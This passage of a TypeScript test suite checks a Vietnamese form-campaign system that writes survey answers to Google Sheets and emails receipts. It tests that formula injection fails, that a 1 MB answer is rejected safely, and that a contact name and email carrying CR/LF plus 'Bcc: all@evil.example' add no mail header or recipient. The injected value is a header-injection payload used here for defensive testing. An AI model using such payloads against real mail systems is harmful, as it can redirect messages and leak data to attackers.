      expect(json.answers['11.text']).toBe(typed['11.text']);
      expect(json.contact.name).toBe(typed['contact.name']);
      expect(json.albumUrl).toBe(typed.album);
    }
    // And the cells themselves hold string values, not formulas.
    const grid = await api().spreadsheets.get({
      spreadsheetId: local.state.spreadsheetId,
      ranges: [quoteSheet(TAB.data), quoteSheet(TAB.log)],
      includeGridData: true,
    });
    const texts = new Set<string>(Object.values(typed));
    let seen = 0;
    for (const sheet of grid.data.sheets ?? []) {
      for (const d of sheet.data ?? []) {
        for (const r of d.rowData ?? []) {
          for (const cell of r.values ?? []) {
            const v = cell.userEnteredValue;
            if (v?.stringValue && texts.has(v.stringValue)) seen++;
            if (v?.formulaValue) expect(texts.has(v.formulaValue)).toBe(false);
          }
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(keys.length);
  }, 30_000);

  it('a CR/LF in the contact email and name adds no header and no recipient', async () => {
    const unitId = 'p-tan-kieng';
    await submit(local.campaign, linkOf(unitId), {
      answers: { '2.count': '5' },
      contact: {
        name: 'Nguyễn Văn An\r\nBcc: all@evil.example',
        email: 'victim@x.example\r\nBcc: all@evil.example',
      },
    });
    await local.standIns.forms.flushDeliveries();
    await local.runtime.sync('manual');
    const mails = local.standIns.mail.messages();
    const receipt = mails.find((m) => m.envelope.to.includes(`${unitId}@donvi.example`));
    expect(receipt).toBeDefined();
    for (const m of mails) {
      expect(m.envelope.to.join(' ')).not.toContain('evil.example');
      expect(m.envelope.to.join(' ')).not.toContain('victim@x.example');
      expect(m.bcc).toEqual([]);
      const headers = m.raw.slice(0, m.raw.search(/\r?\n\r?\n/));
      expect(headers).not.toMatch(/^bcc:/im);
      expect(headers).not.toContain('evil.example');
    }
    // The unit is told its email was not usable; the receipt went to its registered address.
    expect(receipt?.text).toContain('không phải địa chỉ email hợp lệ');
  }, 30_000);

  it('a 1 MB answer typed in the form gets a rejection the unit receives, and nothing crashes', async () => {
    const unitId = 'p-phu-my';
    // The respondent page takes a body up to 1 MiB, as a browser would post it.
    const big = 'To chuc trien lam sach. '.repeat(41_600);
    await submit(local.campaign, linkOf(unitId), { answers: { '2.count': '3', '11.text': big } });
    await local.standIns.forms.flushDeliveries();
    const report = await local.runtime.sync('manual');
    expect(report.mails.failed).toBe(0);
    const mail = local.standIns.mail
      .messages()
      .find((m) => m.envelope.to.includes(`${unitId}@donvi.example`));
    expect(mail?.text).toMatch(/vượt quá 5\.000 ký tự/);
    expect(mail?.size ?? 0).toBeLessThan(200_000);
    const layout = sheetLayout(local.campaign);
    const row = (await tab(TAB.progress, 'UNFORMATTED_VALUE')).find((r) => r[0] === unitId);
    expect(row?.[layout.progress.col.status]).toBe('Cần sửa');
  }, 30_000);
});
